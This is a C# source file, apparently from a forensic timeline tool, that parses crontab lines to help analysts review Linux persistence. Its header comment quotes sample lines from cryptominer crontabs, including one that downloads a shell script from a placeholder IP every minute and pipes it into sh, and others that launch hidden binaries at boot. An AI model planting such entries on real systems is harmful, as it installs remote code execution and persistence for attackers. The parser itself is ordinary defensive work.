using System.Text.RegularExpressions;

namespace Timeline.Parsers.Linux.Persistence.Crontab;

/// <summary>
/// Reads one crontab line (crontab(5), cronie and Debian cron). The shapes, from real miner tables:
/// <code>
/// * * * * * wget -q -O - http://198.51.100.7/d.sh | sh > /dev/null 2>&amp;1      user table: 5 fields + command
/// @reboot /root/.configrc/a/upd>/dev/null 2>&amp;1                                 user table: nickname + command
/// */40 * * * * root sh /etc/newinit.sh >/dev/null 2>&amp;1                         system table: 5 fields + user + command
/// MAILTO=""                                                                    environment line (either table)
/// -*/5 * * * * root /usr/lib/x                                                 cronie: leading '-' = don't log CMD
/// </code>
/// Fields are separated by spaces or tabs; the command is the rest of the line, kept verbatim.
/// </summary>
public static partial class CrontabGrammar
{
    // NAME = value, spaces allowed around '='; cron takes the name literally.
    // Example: PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
    [GeneratedRegex(@"^(?<name>[A-Za-z_][A-Za-z0-9_]*)[ \t]*=[ \t]*(?<value>.*)$", RegexOptions.CultureInvariant)]
    private static partial Regex EnvironmentLine();

    public static CrontabLine Read(string line, CrontabTable table)
    {
        var text = line.TrimStart(' ', '\t');
        if (text.Length == 0 || text[0] == '#') return CrontabLine.Ignorable;
        if (EnvironmentLine().Match(text) is { Success: true } env)
            return new CrontabLine(CrontabLineKind.Environment, env.Groups["name"].Value, null, env.Groups["value"].Value.TrimEnd());

        var dontLog = text[0] == '-';
        var rest = dontLog ? text.AsSpan(1) : text.AsSpan();
        if (!TakeToken(ref rest, out var first)) return CrontabLine.Invalid("bad minute (empty entry)");

        string schedule;
        if (first[0] == '@')
        {
            if (!CronSchedule.IsNickname(first)) return CrontabLine.Invalid($"bad time specifier '{first}'", command: rest.Trim().ToString());
            schedule = first;
        }
        else
        {
            // Checked field by field, as cron does, so the problem names the first bad field ("bad minute").
            var fields = new string[CronSchedule.FieldCount];
            fields[0] = first;
            for (var i = 0; i < fields.Length; i++)
            {
                if (i > 0 && !TakeToken(ref rest, out fields[i]))
                    return CrontabLine.Invalid($"entry ends after {i} of {CronSchedule.FieldCount} time fields");
                if (!CronSchedule.IsValidField(i, fields[i], out var problem)) return CrontabLine.Invalid(problem);
            }
            schedule = string.Join(' ', fields);
        }

        string? user = null;
        if (table == CrontabTable.System)
        {
            var beforeUser = rest;
            if (!TakeToken(ref rest, out var candidate)) return CrontabLine.Invalid("bad username (no user column and no command)", schedule);
            if (!IsUserColumn(candidate))
                return CrontabLine.Invalid($"bad username '{candidate}': a system crontab entry needs a user column before the command", schedule, beforeUser.Trim().ToString());
            user = candidate;
        }

        var command = rest.Trim().ToString();
        if (command.Length == 0) return CrontabLine.Invalid("bad command (the entry has no command)", schedule);
        return new CrontabLine(CrontabLineKind.Entry, schedule, user, command, dontLog);
    }

    /// <summary>
    /// For a file the path does not classify: a system table if the first entry's sixth token is a
    /// known account followed by a command (<c>0 1 * * * root sh /etc/newinit.sh</c>).
    /// </summary>
    public static CrontabTable GuessTable(string line)
    {
        var rest = line.AsSpan().TrimStart(" \t-");
        if (!TakeToken(ref rest, out var first)) return CrontabTable.Unknown;
        var timeTokens = first[0] == '@' ? 0 : CronSchedule.FieldCount - 1;
        for (var i = 0; i < timeTokens; i++)
        {
            if (!TakeToken(ref rest, out _)) return CrontabTable.Unknown;
        }
        if (!TakeToken(ref rest, out var sixth)) return CrontabTable.Unknown;
        return SystemAccounts.Contains(sixth) && !rest.Trim().IsEmpty ? CrontabTable.System : CrontabTable.User;
    }

    /// <summary>
    /// A user column is a plausible account name; a known account wins over a command of the same
    /// name, while a common command word (<c>curl</c>, <c>sh</c>) means the column is missing.
    /// </summary>
    private static bool IsUserColumn(string token) =>
        TriagePath.IsUserName(token) && (SystemAccounts.Contains(token) || !ShellCommandShape.IsCommonCommand(token));

    private static bool TakeToken(ref ReadOnlySpan<char> rest, out string token)
    {
        rest = rest.TrimStart(" \t");
        var end = rest.IndexOfAny(' ', '\t');
        token = (end < 0 ? rest : rest[..end]).ToString();
        rest = end < 0 ? [] : rest[end..];
        return token.Length > 0;
    }
}
